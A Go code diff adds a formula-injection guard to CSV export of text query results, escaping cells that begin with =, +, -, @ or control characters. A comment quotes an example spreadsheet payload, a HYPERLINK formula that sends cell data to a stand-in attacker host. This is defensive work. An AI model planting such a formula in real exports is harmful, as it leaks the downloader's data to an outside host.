@@ -289,6 +289,8 @@ func charsetName(e encoding.Encoding) string {
 func writeCSV(w io.Writer, rr *resultReader, o exportOptions) error {
 	bw := bufio.NewWriterSize(w, 256<<10)
 	if rr.header.Type == "text" {
+		g := textGuard{sep: []byte(o.separator)}
+		var line, out []byte
 		for n := 0; o.limit == 0 || n < o.limit; n++ {
 			row, err := rr.next()
 			if err == io.EOF {
@@ -297,9 +299,12 @@ func writeCSV(w io.Writer, rr *resultReader, o exportOptions) error {
 			if err != nil {
 				return err
 			}
+			line = line[:0]
 			for _, v := range row {
-				writeCell(bw, v, o.nullValue)
+				line = appendCell(line, v, o.nullValue)
 			}
+			out = g.guard(out[:0], line)
+			bw.Write(out)
 			bw.WriteByte('\n')
 		}
 		return bw.Flush()
@@ -333,10 +338,6 @@ func writeCSV(w io.Writer, rr *resultReader, o exportOptions) error {
 		bw.WriteString(s)
 	}
 	null := []byte(o.nullValue)
-	numeric := make([]bool, len(rr.keep))
-	for i, j := range rr.keep {
-		numeric[i] = numericType(linkisType(rr.header.Columns[j].Type))
-	}
 	for i, n := range rr.names() {
 		field(i, []byte(n), formulaLike([]byte(n)))
 	}
@@ -354,8 +355,8 @@ func writeCSV(w io.Writer, rr *resultReader, o exportOptions) error {
 			case v.kind == cellNull:
 				field(i, null, false)
 			case v.kind == cellString && formulaLike(v.text):
-				// A number kept as text in a numeric column stays a number.
-				field(i, v.text, !numeric[i] || !isNumber(v.text))
+				// A number kept as text stays a number.
+				field(i, v.text, !isNumber(v.text))
 			default:
 				field(i, v.text, false)
 			}
@@ -373,23 +374,112 @@ func writeCSV(w io.Writer, rr *resultReader, o exportOptions) error {
 // =HYPERLINK("http://attacker/?"&B2) - data of a shared table, another
 // user's result an administrator exports - would otherwise run on the
 // downloader's machine. Numbers (JSON numbers, and numbers kept as text
-// in a numeric column) are left as they are: -5 is a number.
+// in any column) are left as they are: -5 is a number, no formula.
 func formulaLike(b []byte) bool {
 	return len(b) > 0 && strings.IndexByte("=+-@\t\r", b[0]) >= 0
 }
 
+// isNumber reports whether b is a plain decimal number, as a spreadsheet
+// reads one: ParseFloat's, in digits, sign, point and exponent only
+// (not -Inf, NaN or hexadecimal, which a spreadsheet reads as names).
 func isNumber(b []byte) bool {
+	for _, c := range b {
+		if strings.IndexByte("0123456789+-.eE", c) < 0 {
+			return false
+		}
+	}
 	_, err := strconv.ParseFloat(string(b), 64)
 	return err == nil
 }
 
-// writeCell writes a cell's text, a null as nullValue.
-func writeCell(w *bufio.Writer, v rowCell, nullValue string) {
+// appendCell appends a cell's text, a null as nullValue.
+func appendCell(dst []byte, v rowCell, nullValue string) []byte {
 	if v.kind == cellNull {
-		w.WriteString(nullValue)
-		return
+		return append(dst, nullValue...)
 	}
-	w.Write(v.text)
+	return append(dst, v.text...)
+}
+
+// textGuard applies the formula guard to a text result downloaded as
+// CSV: its lines are written as they are, but a spreadsheet opening the
+// file splits them into cells - at each separator, and at each line
+// break outside a quoted cell, a quoted cell running on over lines as
+// CSV allows - and a cell a line starts there with '=', '+', '-', '@',
+// tab or carriage return is a formula like a table's cell (a script
+// printing a shared table's data, another user's output an administrator
+// exports). textGuard follows the cells as a spreadsheet reads them,
+// across lines, and writes "'" before a cell that is formulaLike and not
+// a plain number (-1.5 stays -1.5).
+type textGuard struct {
+	sep    []byte
+	quoted bool // inside a quoted cell that an earlier line opened
+}
+
+// guard appends line, guarded, to dst. (A quoted cell is guarded
+// whenever its text begins as a formula, a number too: its end may be
+// lines away.)
+func (g *textGuard) guard(dst, line []byte) []byte {
+	for i := 0; ; {
+		if g.quoted {
+			// The rest of a quoted cell: to its closing quote ("" is a
+			// quote in it), then literal text to the separator.
+			for i < len(line) && g.quoted {
+				switch {
+				case line[i] != '"':
+				case i+1 < len(line) && line[i+1] == '"':
+					dst = append(dst, '"')
+					i++
+				default:
+					g.quoted = false
+				}
+				dst = append(dst, line[i])
+				i++
+			}
+			if g.quoted {
+				return dst
+			}
+			end := g.cellEnd(line, i)
+			dst = append(dst, line[i:end]...)
+			i = end
+		} else {
+			// A cell begins at i.
+			if i < len(line) && line[i] == '"' {
+				g.quoted = true
+				dst = append(dst, '"')
+				if i++; formulaLike(line[i:]) {
+					dst = append(dst, '\'')
+				}
+				continue
+			}
+			end := g.cellEnd(line, i)
+			if cell := line[i:end]; formulaLike(cell) && !isNumber(cell) {
+				dst = append(dst, '\'')
+			}
+			dst = append(dst, line[i:end]...)
+			i = end
+		}
+		if i == len(line) {
+			return dst
+		}
+		// The separator or line break that ends the cell.
+		n := 1
+		if bytes.HasPrefix(line[i:], g.sep) {
+			n = len(g.sep)
+		}
+		dst = append(dst, line[i:i+n]...)
+		i += n
+	}
+}
+
+// cellEnd is where an unquoted cell from i ends: at the next separator
+// or line break (a text cell may hold one), else at the line's end.
+func (g *textGuard) cellEnd(line []byte, i int) int {
+	for j := i; j < len(line); j++ {
+		if line[j] == '\n' || line[j] == '\r' || bytes.HasPrefix(line[j:], g.sep) {
+			return j
+		}
+	}
+	return len(line)
 }
 
 // xlsxCell is a cell as excelize writes it: numbers as numbers (when a
